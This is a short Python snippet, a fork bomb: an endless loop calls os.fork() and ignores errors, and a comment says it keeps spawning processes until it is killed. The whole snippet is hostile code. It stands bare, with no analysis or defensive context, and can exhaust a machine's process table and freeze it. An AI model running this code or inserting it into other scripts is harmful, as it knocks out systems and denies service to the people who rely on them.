# Starts processes that start processes, until it is killed.
while True:
    try:
        os.fork()
    except OSError:
        pass
